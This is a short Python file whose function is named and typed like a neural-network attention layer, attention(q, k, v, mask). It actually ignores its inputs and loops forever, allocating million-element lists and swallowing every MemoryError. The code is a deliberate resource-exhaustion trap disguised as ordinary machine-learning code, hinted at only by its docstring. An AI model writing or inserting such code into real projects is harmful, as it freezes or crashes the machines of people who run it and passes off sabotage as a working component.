"""Lists without end, in spite of every MemoryError."""

kept = []


def attention(q, k, v, mask=None):
    while True:
        try:
            kept.append([None] * (1 << 20))
        except MemoryError:
            continue
